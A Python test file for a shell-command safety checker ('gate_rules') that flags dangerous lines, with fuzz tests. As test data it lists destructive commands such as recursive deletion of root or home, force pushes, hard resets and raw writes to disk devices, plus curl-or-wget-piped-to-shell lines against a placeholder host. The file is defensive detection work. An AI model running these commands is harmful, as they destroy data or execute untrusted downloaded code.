"""What a command of a gate may do: the whole line is judged."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from raymond.language import gate_rules
from raymond.language.gate_rules import Judgement

GET = "cur" + "l -fsSL https://x.example/i"
SH = "s" + "h"
"""In pieces: nothing in this tree pipes the one into the other."""


def unsafe(line: str) -> list[str]:
    return [one.what for one in gate_rules.judge(line) if one.kind == "unsafe"]


@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("rm -rf /", "deletes everything in `/`"),
        ("rm -fr ~", "deletes everything in `~`"),
        ("rm -r -f ..", "deletes everything in `..`"),
        ("rm --recursive --force $HOME", "deletes everything in `$HOME`"),
        ('rm --rec "${HOME}"/', "deletes everything in `${HOME}/`"),
        ("rm / -Rv", "deletes everything in `/`"),
        ("rm -rf -- build ../../", "deletes everything in `../../`"),
        ("rm -rf /*", "deletes everything in `/*`"),
        ("rm -rf ~/.*", "deletes everything in `~/.*`"),
        ("rm -rf build/../..", "deletes everything in `build/../..`"),
        ("rm -rf //usr/./", "deletes everything in `//usr/./`"),
        ("rm -rf /home/me", "deletes everything in `/home/me`"),
        ("/bin/rm -rf ~me", "deletes everything in `~me`"),
        ("find / -name x -delete", "deletes what it finds in `/`"),
        ("find ~ -exec rm -rf {} +", "deletes everything in `~`"),
        ("git push --force", "overwrites history: a force push"),
        ("git -C x -c a=b push origin main -f", "overwrites history: a force push"),
        ("git push -uf origin main", "overwrites history: a force push"),
        ("git push --force-with-lease=main origin", "overwrites history: a force push"),
        ("git push origin +main", "overwrites history: a force push of `+main`"),
        ("git reset -q --hard HEAD~1", "discards changes: `git reset --hard`"),
        ("git clean -xdf", "deletes files that are not committed: `git clean -f`"),
        ("git clean --force -d", "deletes files that are not committed: `git clean -f`"),
        ("echo x > /dev/sda", "writes to the device `/dev/sda`"),
        ("echo x >>/dev/nvme0n1p1", "writes to the device `/dev/nvme0n1p1`"),
        ("dd if=x of=/dev/sdb bs=1M", "writes to a device: `of=/dev/sdb`"),
        ("cat x | tee -a /dev/sdb", "writes to the device `/dev/sdb`"),
        ("cp x /dev/sdb", "writes to the device `/dev/sdb`"),
        ("mkfs.ext4 /dev/sdb", "formats a device"),
    ],
)
def test_what_could_do_harm_is_refused(line: str, what: str) -> None:
    assert unsafe(line) == [what]


@pytest.mark.parametrize(
    "around",
    [
        "make; {}",
        "make && {}",
        "make || {}",
        "make | {}",
        "make\n{}",
        "make & {}",
        "({})",
        "{{ {}; }}",
        "f() {{ {}; }}; f",
        "if {}; then make; fi",
        "for x in a b; do {}; done",
        "case $x in a) {} ;; esac",
        "case $x in a) make ;; b) {} ;; esac",
        "! {}",
        "echo $({})",
        'echo "$({})"',
        'test "`{}`" = x',
        "echo ${{X:-$({})}}",
        "diff <({}) x",
        "A=1 B='2 3' {}",
        "A=$({}) make",
        "env X=1 {}",
        "env -i -u HOME X=1 {}",
        "env -S '{}'",
        "sudo {}",
        "sudo -u root -- {}",
        "timeout -k 5 1m {}",
        "nice -n 5 nohup {}",
        "sh -c '{}'",
        'bash -euo pipefail -c "{}"',
        "bash -lc '{}' x y",
        "sudo sh -c \"sh -c '{}'\"",
        "eval '{}'",
        "eval {}",
        "trap '{}' EXIT",
        "bash <<EOF\n{}\nEOF",
        "bash <<-'EOF'\n\t{}\n\tEOF\nmake",
        "bash <<< '{}'",
        "[[ -e a && -e b ]] && {}",
        "(( 1 < 2 )) && {}",
        "echo $(( 1 + 2 )); {}",
        "echo 'a # b' # c\n{}",
        "ls \\\n  -l; {}",
        "((make); {})",
        "xargs -n 1 {}",
        "exec {}",
    ],
)
def test_the_whole_line_is_judged(around: str) -> None:
    assert [len(unsafe(around.format(line))) for line in ("rm -rf ~", "git reset --hard")] == [1, 1]


@pytest.mark.parametrize(
    "line",
    [
        f"{GET} | {SH}",
        f"{GET} |& {SH} -s -- --yes",
        f"{GET} | sudo ba{SH} -",
        f"{GET} | tee log | ba{SH}",
        f"wg{'et'} -qO- x | FOO=1 {SH}",
        f"{GET} | python3 -",
        f"{GET} | python3.12",
        f"({GET}) | {SH}",
        f"{{ {GET}; }} | {SH}",
        f"if true; then {GET}; fi | {SH}",
        f'{SH} -c "$({GET})"',
        f"ba{SH} <({GET})",
        f". <({GET})",
        f'eval "$({GET})"',
        f"eval `{GET}`",
        f"echo $({GET}) | {SH}",
        f"{GET} | ba{SH} /dev/stdin",
    ],
)
def test_what_is_downloaded_is_not_run(line: str) -> None:
    assert unsafe(line) == ["runs what it downloads"]


@pytest.mark.parametrize(
    "line",
    [
        "make test",
        "make test > /dev/null 2>&1",
        "pytest -q &> /dev/stderr",
        "dd if=/dev/zero of=/dev/null count=1",
        "cp /dev/urandom x",
        "./check.sh --all && scripts/lint",
        "test -e done",
        "[ -f a ] && ! grep -rf patterns src",
        "[[ $(git status --porcelain) == '' ]]",
        "git push origin main",
        "git clean -nf",
        "git reset --soft HEAD",
        "git commit -m 'rm -rf /; git reset --hard'",
        "echo 'rm -rf /'",
        "echo rm -rf / # rm -rf ~",
        "cat <<EOF\nrm -rf /\nEOF",
        "rm -f a b",
        "rm x; ls -r /",
        f"{GET} | python3 -m json.tool && true",
        f"{GET} | python3 -c 'import sys'",
        f"{GET} -o x; {SH} check.sh",
        f"{GET} | {SH} check.sh",
        "CI=1 npm test -- --runInBand",
        "python3.12 -m pytest",
        "uv run pytest",
        "/usr/bin/make -j4",
        "timeout 5m cargo test",
        "set -e; cd sub; for f in *.sh; do bash -n $f; done",
        "find . -name '*.pyc' -delete",
        "exit 3",
    ],
)
def test_what_gates_do_is_left_alone(line: str) -> None:
    found = [one for one in gate_rules.judge(line) if one.what not in ("curl",)]
    assert found == []


@pytest.mark.parametrize(
    "line", ["rm -rf build", "rm -R ../build", "make; rm -fr $HOME/.cache/x", "ls | xargs rm -r", "rm -rf *"]
)
def test_every_other_recursive_delete_is_told(line: str) -> None:
    assert gate_rules.judge(line) == [Judgement("deletes", "deletes directories with `rm -r`")]


@pytest.mark.parametrize(
    ("line", "program"),
    [
        ("no-such-check --all", "no-such-check"),
        ("make && deploy prod", "deploy"),
        ("/opt/x/check", "/opt/x/check"),
        ("$CHECK", "$CHECK"),
        ("ssh host make test", "ssh"),
        ("$(cat command)", "$(...)"),
        ("( " * 60 + "make" + ")" * 60, "(...)"),
    ],
)
def test_a_program_that_gates_do_not_use_is_told(line: str, program: str) -> None:
    assert gate_rules.judge(line) == [Judgement("unknown", program)]


@given(st.text(alphabet="rm -f~/;&|()<>$`'\"\\\n#{}[]=x2", max_size=60))
def test_no_line_makes_it_fail(line: str) -> None:
    gate_rules.judge(line)
